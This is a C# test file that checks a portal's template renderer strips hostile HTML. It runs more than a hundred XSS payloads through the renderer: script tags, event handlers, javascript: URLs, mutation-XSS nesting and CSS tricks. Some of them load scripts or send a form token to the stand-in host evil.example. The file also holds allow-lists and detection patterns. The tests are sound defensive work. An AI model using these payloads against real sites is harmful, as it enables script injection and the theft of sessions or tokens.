using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace SagePortal.Reviews.Tests.Templates;

/// <summary>Whatever a template or an input holds, nothing in the page may run, load from elsewhere unasked, or reach the portal around it.</summary>
public sealed class HostileTemplateTests
{
    private static readonly string[] s_elements =
    [
        "a", "abbr", "b", "blockquote", "br", "button", "caption", "code", "div", "em", "details", "fieldset", "figure", "h1", "h3", "hr", "i", "img", "input", "label", "legend", "li",
        "ol", "option", "p", "pre", "rt", "ruby", "section", "select", "small", "span", "strong", "sub", "summary", "table", "tbody", "td", "textarea", "th", "thead", "tr", "u", "ul", "center",
    ];

    private static readonly string[] s_vectors =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss src=https://evil.example></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=`javascript:alert(1)`>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "<img src=# onmouseover=\"alert(1)\">",
        "<img onmouseover=\"alert(1)\">",
        "<img src=/ onerror=\"alert(String.fromCharCode(88))\"></img>",
        "<img src=\"jav\tascript:alert(1)\">",
        "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<img src=\"jav&#x0A;ascript:alert(1);\">",
        "<img src=\" &#14; javascript:alert(1);\">",
        "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"//evil.example/x.png\">",
        "<img src=\"/\\evil.example/x.png\">",
        "<img src=\"\\\\evil.example\\x.png\">",
        "<img src=\"http://evil.example/x.png\">",
        "<img src=x srcset=\"https://evil.example/x 1x\" sizes=1>",
        "<img src=\"/a.png\" usemap=\"#m\"><map name=m><area href=\"javascript:alert(1)\"></map>",
        "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
        "<image src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"https://user:pass@evil.example\">x</a>",
        "<a href=\"//evil.example\" ping=\"https://evil.example\">x</a>",
        "<a href=/ok target=_self onclick=alert(1)>x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a onmouseover=alert(document.cookie)>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<textarea name=t><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object type=text/x-scriptlet data=https://evil.example></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=x></applet>",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=import href=https://evil.example/x>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"wid\\74h: expr/**/ession(alert(1))\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<div style=\"margin-left:-9999px\">x</div>",
        "<div style=\"color: var(--x)\">x</div>",
        "<body onload=alert(1)>",
        "<body background=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\"><tr><td background=x>x</table>",
        "<input type=image src=x onerror=alert(1) name=i>",
        "<input name=i autofocus onfocus=alert(1)>",
        "<input type=file name=f>",
        "<input type=password name=p>",
        "<input name=x form=portal formaction=\"javascript:alert(1)\" type=submit>",
        "<button form=portal formaction=\"javascript:alert(1)\">x</button>",
        "<form action=\"https://evil.example\" id=portal><input name=__RequestVerificationToken></form>",
        "<select name=s onchange=alert(1)><option onclick=alert(1)>x</select>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><?php alert(1) ?>",
        "<<script>alert(1);//<</script>",
        "<p/onclick=alert(1)>x",
        "<p\nonclick\n=\nalert(1)>x",
        "<p ONCLICK&#61;\"alert(1)\" onclick=\"alert(1)\">x",
        "<div id=\"blazor-error-ui\" class=\"portal-overlay\">x</div>",
        "<x-custom onclick=alert(1) is=evil>x</x-custom>",
        "<div data-permanent contenteditable autofocus tabindex=1 accesskey=x>x</div>",
        "<b><i></b></i><table><b><tr><td><script>alert(1)</script>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<ruby><rt><rtc><img src=x onerror=alert(1)>",
        "<crowd-input name=\"x\" onfocus=alert(1) label=\"<img src=x onerror=alert(1)>\" value='\"><script>alert(1)</script>'></crowd-input>",
        "<crowd-classifier name=c header=\"<script>alert(1)</script>\" categories='[\"<img src=x onerror=alert(1)>\", \"\\\" onclick=alert(1) x=\\\"\"]'></crowd-classifier>",
        "<crowd-card heading=\"<script>alert(1)</script>\" image=\"javascript:alert(1)\"></crowd-card>",
        "<crowd-alert type='\"><script>alert(1)</script>'>x</crowd-alert>",
        "<crowd-tabs><crowd-tab header=\"<script>alert(1)</script>\"><script>alert(1)</script></crowd-tab></crowd-tabs>",
        "<crowd-checkbox name=k value='\"><script>alert(1)</script>'><img src=x onerror=alert(1)></crowd-checkbox>",
        "<crowd-bounding-box src=\"javascript:alert(1)\"><script>alert(1)</script></crowd-bounding-box>",
        "<short-instructions><script>alert(1)</script><img src=x onerror=alert(1)>s</short-instructions>",
        "<full-instructions header=\"<script>alert(1)</script>\"><a href=\"javascript:alert(1)\">f</a></full-instructions>",
    ];

    public static TheoryData<string> Vectors => [.. s_vectors];

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Render_AHostileTemplate_LeavesNothingThatRuns(string vector) => AssertHarmless(vector, "{}");

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Render_AHostileInput_IsTextWhereverItStands(string vector)
    {
        var input = $$"""{"x":{{System.Text.Json.JsonSerializer.Serialize(vector)}}}""";
        const string Everywhere = "<p>{{ task.input.x }}</p><p title=\"{{ task.input.x }}\">a</p><p title='{{ task.input.x }}'>a</p><p title={{ task.input.x }}>a</p><img src=\"{{ task.input.x }}\">"
            + "<a href=\"{{ task.input.x }}\">a</a><div style=\"color: {{ task.input.x }}\">a</div><textarea name=t>{{ task.input.x }}</textarea>{{ task.input.x | to_json }}{{ task.input.x | escape }}"
            + "{% capture c %}{{ task.input.x }}{% endcapture %}{{ c }}<crowd-input name=\"n\" label=\"{{ task.input.x }}\" value=\"{{ task.input.x }}\"></crowd-input>";
        var page = Tasks.Render(Everywhere, input);

        AssertHarmless(page.Html);
        var shown = vector.Replace("\0", "\uFFFD", StringComparison.Ordinal);
        var paragraphs = Parse(page.Html).QuerySelectorAll("p").Take(3).ToList();
        Assert.Equal((shown, shown, shown), (paragraphs[0].TextContent, paragraphs[1].GetAttribute("title"), paragraphs[2].GetAttribute("title")));
    }

    // Also in pairs, where one half opens what the other closes, and within contexts that change how a parser reads.
    [Fact]
    public void Render_HostilePairs_LeaveNothingThatRuns()
    {
        var random = new Random(17);
        string[] wrappers = ["{0}{1}", "<table>{0}<tr>{1}</table>", "<select name=q>{0}</select>{1}", "<p title=\"{0}\">{1}", "<svg>{0}</svg>{1}", "<textarea name=q>{0}</textarea>{1}", "<crowd-form>{0}<crowd-checkbox name=w>{1}", "<!--{0}-->{1}", "<b><a>{0}<div>{1}</a>"];
        for (var round = 0; round < 600; round++)
        {
            var (first, second) = (s_vectors[random.Next(s_vectors.Length)], s_vectors[random.Next(s_vectors.Length)]);
            AssertHarmless(wrappers[random.Next(wrappers.Length)].Replace("{0}", first, StringComparison.Ordinal).Replace("{1}", second, StringComparison.Ordinal), "{}");
        }
    }

    // Unclosed formatting is cloned into every later block: without a limit this page has two million elements.
    [Fact]
    public void Render_MarkupThatMakesParsersClone_StaysSmall()
    {
        var formats = string.Concat(Enumerable.Range(0, 1_500).Select(i => $"<b id=x{i}>"));
        var blocks = string.Concat(Enumerable.Repeat("<div>x</div></p><p>", 1_500));

        Assert.InRange(Tasks.Html($"<div>{formats}</div>{blocks}").Length, 1, 200_000);
    }

    [Fact]
    public void Render_TooManyElementsOrAttributes_IsRefusedOrCut()
    {
        Assert.Equal("TooManyElements", Tasks.Failure(string.Concat(Enumerable.Repeat("<br>", 10_500))).Code);
        Assert.InRange(Tasks.Html($"<p {string.Join(' ', Enumerable.Range(0, 10_000).Select(i => $"x{i}=1"))}>x</p>").Length, 1, 1_000);
    }

    [Fact]
    public void Render_DeepMarkup_Ends()
    {
        var page = Tasks.Render(string.Concat(Enumerable.Repeat("<div>", 3_000)) + "x");

        AssertHarmless(page.Html);
    }

    [Fact]
    public void Vectors_AreMoreThanSixty() => Assert.True(s_vectors.Distinct().Count() >= 60);

    private static void AssertHarmless(string template, string input)
    {
        var page = Tasks.Render(template.Replace("{%", "{ %", StringComparison.Ordinal).Replace("{{", "{ {", StringComparison.Ordinal), input);
        AssertHarmless(page.Html);
        AssertHarmless(page.ShortInstructions ?? "");
        AssertHarmless(page.FullInstructions ?? "");
    }

    // Parsed with scripting on and off: browsers do the first, and the two read some elements differently.
    private static void AssertHarmless(string html)
    {
        foreach (var scripting in new[] { false, true })
        {
            var document = new HtmlParser(new HtmlParserOptions { IsScripting = scripting }).ParseDocument($"<!doctype html><body><main>{html}</main>");
            Assert.Empty(document.Head!.Children);
            foreach (var element in document.QuerySelectorAll("main *"))
            {
                AssertHarmless(element, html);
            }

            Assert.DoesNotContain(document.Body!.Children, e => e.LocalName != "main");
        }
    }

    private static void AssertHarmless(IElement element, string html)
    {
        if (!s_elements.Contains(element.LocalName) || element.NamespaceUri != "http://www.w3.org/1999/xhtml")
        {
            Assert.Fail($"<{element.LocalName}> in {html}");
        }

        foreach (var attribute in element.Attributes)
        {
            var (name, value) = (attribute.Name, attribute.Value);
            if (name.StartsWith("on", StringComparison.Ordinal) || name is "srcdoc" or "action" or "formaction" or "form" or "srcset" or "ping" or "is" or "background" or "http-equiv" or "usemap" or "slot")
            {
                Assert.Fail($"{name} in {html}");
            }

            switch (name)
            {
                case "href" or "src":
                    Assert.Matches(@"\A(https://[^\s@]*|/(?![/\\])\S*|data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+)\z", value);
                    break;
                case "style":
                    Assert.DoesNotMatch(@"[(\\@<]|position|behavior|binding|expression|(^|[\s:])-", value);
                    break;
                case "id":
                    Assert.StartsWith("task-", value, StringComparison.Ordinal);
                    break;
                case "class":
                    Assert.All(value.Split(' '), c => Assert.StartsWith("task-", c, StringComparison.Ordinal));
                    break;
                case "name" when element.LocalName != "details":
                    Assert.StartsWith("answer:", value, StringComparison.Ordinal);
                    break;
                case "type" when element.LocalName == "input":
                    Assert.False(value is "file" or "password" or "image", html);
                    break;
            }
        }
    }

    private static AngleSharp.Html.Dom.IHtmlDocument Parse(string html) => new HtmlParser().ParseDocument(html);
}
